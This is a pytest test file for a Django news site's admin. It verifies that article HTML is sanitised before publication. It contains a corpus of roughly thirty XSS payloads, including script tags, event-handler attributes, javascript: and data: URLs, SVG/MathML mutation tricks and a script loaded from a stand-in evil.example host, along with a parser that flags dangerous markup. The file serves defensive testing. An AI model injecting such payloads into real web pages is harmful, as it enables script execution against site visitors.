"""Body HTML entered in the admin is sanitised (nh3, via django-prose-editor): no
payload from an XSS corpus survives into the public page."""

from html.parser import HTMLParser

import pytest

from articles.models import Article
from tests.articles.admin_forms import article_form_data
from tests.articles.factories import AuthorFactory, SectionFactory

pytestmark = pytest.mark.django_db

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">click</p>',
    '<div onmouseover="alert(1)">hover</div>',
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href="java\tscript:alert(1)">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    "</style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{display:none}</style>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<<script>script>alert(1)<</script>/script>",
    "</p><script>alert(1)</script><p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<img src="x" onerror="alert(1)"//',
    "<p><b onmouseover=alert(1)>bold</b",
    '<input autofocus onfocus="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<a href="https://example.org/" target="_blank" onclick="alert(1)">fine link</a>',
]

ALLOWED_SCRIPT_TYPES = {"application/ld+json"}


class PageAudit(HTMLParser):
    """Collects what would run script or load something dangerous."""

    def __init__(self):
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script" and not (
            attributes.get("src", "").startswith("/static/")
            or attributes.get("type") in ALLOWED_SCRIPT_TYPES
        ):
            self.problems.append(f"script: {attrs}")
        if tag in {"svg", "math", "iframe", "object", "embed", "style", "base", "img"} and (
            tag != "img" or not attributes.get("src", "").startswith("/media/")
        ):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"{tag} {name}={value}")
            if name in {"href", "src", "action", "formaction", "xlink:href", "data"}:
                normalised = "".join((value or "").split()).lower()
                if normalised.startswith(("javascript:", "vbscript:", "data:")):
                    self.problems.append(f"{tag} {name}={value}")


@pytest.fixture
def published_with(client, desk_editor):
    def publish(body: str):
        client.force_login(desk_editor)
        response = client.post(
            "/admin/articles/article/add/",
            article_form_data(
                section=SectionFactory(),
                authors=[AuthorFactory()],
                status="published",
                body=body,
            ),
        )
        assert response.status_code == 302, response.content.decode()[:2000]
        client.logout()
        return Article.objects.get()

    return publish


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_no_payload_survives_into_the_page(client, published_with, payload):
    article = published_with(f"<p>Before.</p>{payload}<p>After.</p>")
    page = client.get(article.get_absolute_url()).content.decode()
    audit = PageAudit()
    audit.feed(page)
    assert audit.problems == []
    assert "Before." in page and "After." in page


def test_the_whole_corpus_at_once_is_cleaned_and_the_safe_parts_kept(client, published_with):
    article = published_with("".join(XSS_CORPUS))
    audit = PageAudit()
    audit.feed(client.get(article.get_absolute_url()).content.decode())
    assert audit.problems == []
    assert '<a href="https://example.org/"' in article.body
    assert "onclick" not in article.body


def test_what_the_editor_produces_is_kept(published_with):
    html = (
        "<h2>Subhead</h2><p><strong>Bold</strong>, <em>italic</em> and "
        '<a href="https://example.org/report">a link</a>.</p>'
        "<blockquote><p>A quote.</p></blockquote><ul><li><p>One</p></li></ul>"
    )
    article = published_with(html)
    assert article.body == html
